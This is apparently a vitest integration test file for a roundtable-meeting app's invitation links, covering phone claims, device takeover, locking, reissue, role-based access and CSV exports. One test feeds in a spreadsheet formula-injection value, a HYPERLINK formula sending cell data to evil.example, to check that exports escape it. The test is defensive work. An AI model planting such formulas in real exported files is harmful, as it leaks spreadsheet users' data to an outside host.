import { beforeEach, expect, it } from 'vitest';
import type { ClaimResponse, Failure, InvitationList } from '@roundtable/shared';
import {
  connect,
  connected,
  createRoundtable,
  deviceToken,
  join,
  nextState,
  post,
  send,
  type TestSocket,
} from '../support/clients.js';
import { useServer, type TestServer } from '../support/server.js';

const running = useServer();
let server: TestServer;
beforeEach(() => {
  server = running.current;
});

const ended = (socket: TestSocket) => new Promise<Failure>((resolve) => socket.on('ended', resolve));

async function get<T>(path: string, key?: string): Promise<{ status: number; body: T; text: string }> {
  const res = await fetch(server.url + path, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  const text = await res.text();
  const json = res.headers.get('content-type')?.includes('json') ? (JSON.parse(text) as T) : (undefined as T);
  return { status: res.status, body: json, text };
}

/** A roundtable with two invitees on its list; their personal links as the moderator's console gets them. */
async function withInvitees() {
  const rt = await createRoundtable(server.url);
  const moderator = connect(server.url, rt.roundtableId, rt.moderatorSecret);
  await connected(moderator);
  const row = { function: 'Ambassador', language: 'kk', role: 'participant', email: '', note: '' };
  const invitees = [
    { ...row, name: 'Әлихан Бөкейхан', delegation: 'Kazakhstan', email: 'a@gov.kz' },
    { ...row, name: 'Наталья Иванова', delegation: 'Europol', language: 'ru' },
  ];
  expect(await send(moderator, { type: 'invitee.import', invitees })).toMatchObject({ ok: true });
  const state = await nextState(moderator, (s) => s.participants.length === 2);
  const [a, b] = state.participants.map((p) => p.id);
  const links = await get<InvitationList>(`/api/roundtables/${rt.roundtableId}/invitations`, rt.moderatorSecret);
  expect(links.status).toBe(200);
  const link = (id: string | undefined) => {
    const url = new URL(links.body.invitations.find((i) => i.participantId === id)?.url ?? '');
    return { url, key: new URLSearchParams(url.hash.slice(1)).get('key') ?? '' };
  };
  return { rt, moderator, a: a ?? '', b: b ?? '', link };
}

const claim = (roundtableId: string, participantId: string, key: string, token = deviceToken()) =>
  post<ClaimResponse & Failure>(server.url, '/api/invitations/claim', {
    roundtableId,
    participantId,
    key,
    deviceToken: token,
  }).then((res) => ({ ...res, token }));

it('joins a phone as the invited person at once, and marks them arrived', async () => {
  const { rt, moderator, a, link } = await withInvitees();
  const { url, key } = link(a);
  expect(url.pathname).toBe(`/i/${rt.roundtableId}/${a}`);
  const phone = await claim(rt.roundtableId, a, key);
  expect(phone.status).toBe(200);
  expect(phone.body).toMatchObject({ roundtableId: rt.roundtableId, participantId: a, pending: false });
  expect(phone.body.profile).toMatchObject({ name: 'Әлихан Бөкейхан', language: 'kk', delegationName: 'Kazakhstan' });
  const arrived = await nextState(moderator, (s) => s.participants.find((p) => p.id === a)?.status === 'active');
  expect(arrived.participants.find((p) => p.id === a)?.arrivedAt).toBeGreaterThan(0);
  const socket = connect(server.url, rt.roundtableId, phone.token);
  await connected(socket);
  expect(socket.me).toMatchObject({ participantId: a, role: 'participant' });
  // The same phone again is the same person, nothing new recorded.
  const again = await claim(rt.roundtableId, a, key, phone.token);
  expect(again.body).toMatchObject({ participantId: a, rejoined: true });
});

it('moves the person to a second phone and signs the first out, unless the invitation is locked', async () => {
  const { rt, moderator, a, b, link } = await withInvitees();
  const first = await claim(rt.roundtableId, a, link(a).key);
  const old = connect(server.url, rt.roundtableId, first.token);
  await connected(old);
  const told = ended(old);
  const second = await claim(rt.roundtableId, a, link(a).key);
  expect(second.status).toBe(200);
  expect(await told).toMatchObject({ reason: 'invitation_moved' });
  const back = connect(server.url, rt.roundtableId, first.token);
  expect(
    await new Promise<Failure>((resolve) => back.on('connect_error', (e) => resolve((e as { data: Failure }).data))),
  ).toMatchObject({
    reason: 'unknown_key',
  });

  expect(await send(moderator, { type: 'invitation.setLocked', participantId: b, locked: true })).toMatchObject({
    ok: true,
  });
  const kept = await claim(rt.roundtableId, b, link(b).key);
  expect(kept.status).toBe(200);
  const refused = await claim(rt.roundtableId, b, link(b).key);
  expect(refused.status).toBe(403);
  expect(refused.body).toMatchObject({ reason: 'invitation_locked' });
});

it('refuses a re-issued link at once and accepts the new one', async () => {
  const { rt, moderator, a, link } = await withInvitees();
  const old = link(a).key;
  expect(await send(moderator, { type: 'invitation.reissue', participantId: a })).toMatchObject({ ok: true });
  const refused = await claim(rt.roundtableId, a, old);
  expect(refused.status).toBe(401);
  expect(refused.body).toMatchObject({ reason: 'invitation_invalid' });
  const fresh = await get<InvitationList>(`/api/roundtables/${rt.roundtableId}/invitations`, rt.moderatorSecret);
  const key = new URL(fresh.body.invitations.find((i) => i.participantId === a)?.url ?? '').hash.slice(5);
  expect(key).not.toBe(old);
  expect((await claim(rt.roundtableId, a, key)).status).toBe(200);
  // Someone else's id with this key, or a made-up key: the same refusal, telling nothing.
  const other = await claim(rt.roundtableId, 'nobody', key);
  expect(other.body).toMatchObject({ reason: 'invitation_invalid' });
  const forged = await claim(rt.roundtableId, a, 'A'.repeat(22));
  expect(forged.body).toMatchObject({ reason: 'invitation_invalid' });
});

it('refuses the join code by invitation only, and gives the links to the moderator and the desk, the mail-merge file to the moderator', async () => {
  const { rt, moderator, a } = await withInvitees();
  expect(await send(moderator, { type: 'joining.setInvitationOnly', only: true })).toMatchObject({ ok: true });
  const walkIn = await join(server.url, rt.joinCode, 'Walk In');
  expect(walkIn.status).toBe(423);
  expect(walkIn.body).toMatchObject({ reason: 'invitation_only' });
  const preview = await get<{ invitationOnly: boolean }>(`/api/join/${rt.joinCode}`);
  expect(preview.body.invitationOnly).toBe(true);

  const csv = await get<never>(`/api/roundtables/${rt.roundtableId}/invitations.csv`, rt.moderatorSecret);
  expect(csv.status).toBe(200);
  const lines = csv.text
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n');
  expect(lines[0]).toBe('name,function,delegation,language,email,link');
  expect(lines[1]).toMatch(
    new RegExp(`^Әлихан Бөкейхан,Ambassador,Kazakhstan,kk,a@gov.kz,http://[^,]+/i/${rt.roundtableId}/${a}#key=`),
  );

  const minted = await send(moderator, { type: 'link.create', role: 'desk', label: 'Door' });
  const desk = (minted as { result?: { secret?: string; url?: string } }).result;
  expect(desk?.url).toMatch(/\/r\/[^/]+\/desk#key=/);
  expect((await get(`/api/roundtables/${rt.roundtableId}/invitations`, desk?.secret)).status).toBe(200);
  const projector = (await send(moderator, { type: 'link.create', role: 'projector', label: '' })) as {
    result?: { secret?: string };
  };
  const forbidden = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations`, projector.result?.secret);
  expect(forbidden.status).toBe(403);
  expect(forbidden.body).toMatchObject({ reason: 'invitations_forbidden' });
  const mailMerge = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations.csv`, projector.result?.secret);
  expect(mailMerge.body).toMatchObject({ reason: 'contacts_forbidden' });
  const phone = await claim(rt.roundtableId, a, 'x'.repeat(22));
  expect(phone.status).toBe(401);
});

/** A link of `role`, minted by the moderator's socket: its secret. */
async function mint(moderator: TestSocket, role: 'desk' | 'projector'): Promise<string> {
  const ack = (await send(moderator, { type: 'link.create', role, label: '' })) as { result?: { secret?: string } };
  return ack.result?.secret ?? '';
}

it('signs out the phone holding a re-issued invitation, and keeps one who joined with the code when locked', async () => {
  const { rt, moderator, a, link } = await withInvitees();
  const holder = await claim(rt.roundtableId, a, link(a).key);
  const phone = connect(server.url, rt.roundtableId, holder.token);
  await connected(phone);
  const told = ended(phone);
  expect(await send(moderator, { type: 'invitation.reissue', participantId: a })).toMatchObject({ ok: true });
  expect(await told).toMatchObject({ reason: 'invitation_reissued' });
  const again = connect(server.url, rt.roundtableId, holder.token);
  const refused = await new Promise<Failure>((resolve) =>
    again.on('connect_error', (e) => resolve((e as { data: Failure }).data)),
  );
  expect(refused).toMatchObject({ reason: 'unknown_key' });

  // Someone in by the code holds their person: locked, their invitation opens on no other phone.
  const walkIn = await join(server.url, rt.joinCode, 'Walk In');
  const walkInId = walkIn.body.participantId;
  const own = connect(server.url, rt.roundtableId, walkIn.token);
  await connected(own);
  expect(await send(moderator, { type: 'invitation.setLocked', participantId: walkInId, locked: true })).toMatchObject({
    ok: true,
  });
  const links = await get<InvitationList>(`/api/roundtables/${rt.roundtableId}/invitations`, rt.moderatorSecret);
  const key = new URL(links.body.invitations.find((i) => i.participantId === walkInId)?.url ?? '').hash.slice(5);
  expect((await claim(rt.roundtableId, walkInId, key)).body).toMatchObject({ reason: 'invitation_locked' });
  expect(
    await send(own, { type: 'participant.update', participantId: walkInId, profile: { function: 'Still me' } }),
  ).toMatchObject({
    ok: true,
  });
});

it('gives the desk no way to a rapporteur’s or moderator’s invitation, nor to e-mail addresses and notes', async () => {
  const { rt, moderator, a, b } = await withInvitees();
  expect(
    await send(moderator, { type: 'invitee.update', participantId: b, fields: { role: 'rapporteur', note: 'VIP' } }),
  ).toMatchObject({
    ok: true,
  });
  const desk = await mint(moderator, 'desk');
  const handed = await get<InvitationList>(`/api/roundtables/${rt.roundtableId}/invitations`, desk);
  expect(handed.body.invitations.map((i) => i.participantId)).toEqual([a]);
  const mailMerge = await get<Failure>(`/api/roundtables/${rt.roundtableId}/invitations.csv`, desk);
  expect(mailMerge.status).toBe(403);
  expect(mailMerge.body).toMatchObject({ reason: 'contacts_forbidden' });
  const list = await get<never>(`/api/roundtables/${rt.roundtableId}/invitees.csv`, desk);
  expect(list.status).toBe(200);
  expect(list.text).toContain('Әлихан Бөкейхан');
  expect(list.text).not.toContain('a@gov.kz');
  expect(list.text).not.toContain('VIP');
  const deskSocket = connect(server.url, rt.roundtableId, desk);
  await connected(deskSocket);
  const row = {
    name: 'Sock Puppet',
    function: '',
    delegation: '',
    language: 'en',
    role: 'rapporteur',
    email: '',
    note: '',
  };
  expect(await send(deskSocket, { type: 'invitee.import', invitees: [row] })).toMatchObject({
    reason: 'desk_participants_only',
  });
});

it('writes a name that a spreadsheet would run as a formula as text, in every CSV', async () => {
  const { rt, moderator } = await withInvitees();
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const row = {
    name: formula,
    function: '+cmd',
    delegation: '',
    language: 'en',
    role: 'participant',
    email: '',
    note: '',
  };
  expect(await send(moderator, { type: 'invitee.import', invitees: [row] })).toMatchObject({ ok: true });
  for (const file of ['invitations.csv', 'invitees.csv']) {
    const csv = (await get<never>(`/api/roundtables/${rt.roundtableId}/${file}`, rt.moderatorSecret)).text;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  }
});

it('of two phones opening one invitation at the same moment, the second takes over from the first, as in turn', async () => {
  const { rt, a, link } = await withInvitees();
  const [first, second] = await Promise.all([
    claim(rt.roundtableId, a, link(a).key),
    claim(rt.roundtableId, a, link(a).key),
  ]);
  expect([first.status, second.status]).toEqual([200, 200]);
  // One of them holds the person, and the takeover is on record: nobody was told they hold it for nothing.
  const holding = await Promise.all(
    [first, second].map(
      (phone) =>
        new Promise<boolean>((resolve) => {
          const socket = connect(server.url, rt.roundtableId, phone.token);
          socket.on('connect', () => resolve(true));
          socket.on('connect_error', () => resolve(false));
        }),
    ),
  );
  expect(holding.filter(Boolean)).toHaveLength(1);
  const log = await get<{ events: { event: { type: string; moved?: boolean } }[] }>(
    `/api/roundtables/${rt.roundtableId}/events`,
    rt.moderatorSecret,
  );
  const claims = log.body.events.map((e) => e.event).filter((e) => e.type === 'invitation.claimed');
  expect(claims.map((e) => e.moved)).toEqual([false, true]);
});

it('a double tap on "Join" is one person, whatever the store', async () => {
  const rt = await createRoundtable(server.url);
  const token = deviceToken();
  const [one, two] = await Promise.all([
    join(server.url, rt.joinCode, 'Twin Tap', token),
    join(server.url, rt.joinCode, 'Twin Tap', token),
  ]);
  expect([one.status, two.status]).toEqual([200, 200]);
  expect(one.body.participantId).toBe(two.body.participantId);
  expect([one.body.rejoined, two.body.rejoined].sort()).toEqual([false, true]);
});
